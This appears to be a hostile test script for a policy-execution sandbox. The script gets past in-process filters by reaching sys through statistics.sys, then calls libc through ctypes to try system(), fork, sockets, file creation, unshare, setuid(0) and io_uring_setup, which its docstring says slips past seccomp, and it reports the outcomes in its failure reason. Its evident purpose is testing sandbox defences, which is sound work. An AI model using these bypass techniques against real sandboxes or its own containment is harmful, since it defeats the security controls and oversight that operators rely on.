"""ATTACK: skip Python's os module and call libc directly through ctypes (already imported
by the worker, so no file needs to be opened): system(), fork(), socket(), open() with
O_CREAT of /tmp/scriptrl-hostile/PWNED_ctypes, unshare(CLONE_NEWUSER), setuid(0), and
io_uring_setup (io_uring would bypass a seccomp filter for file I/O). The results go into
the failure reason."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
_open = _sys.modules["io"].open
ctypes = _sys.modules["ctypes"]

_report = []
try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _params = (ctypes.c_char * 120)()
    for _name, _call in (
        ("system", lambda: _libc.system(b"touch /tmp/scriptrl-hostile/PWNED_ctypes_system")),
        ("fork", lambda: _libc.fork()),
        ("socket", lambda: _libc.socket(2, 1, 0)),
        ("open", lambda: _libc.open(b"/tmp/scriptrl-hostile/PWNED_ctypes", 0o101, 0o644)),
        ("unshare", lambda: _libc.unshare(0x10000000)),
        ("setuid0", lambda: _libc.setuid(0)),
        ("io_uring_setup", lambda: _libc.syscall(425, 8, ctypes.byref(_params))),
    ):
        _rc = _call()
        if _rc == 0 and _name == "fork":  # an escaped child: leave at once
            _libc["_exit"](0)
        _report.append(f"{_name}={_rc}/errno {ctypes.get_errno()}")
except BaseException as e:
    _report.append(f"ctypes:{repr(e).partition('(')[0]}: {e}")


def policy(obs):
    raise RuntimeError("; ".join(_report))
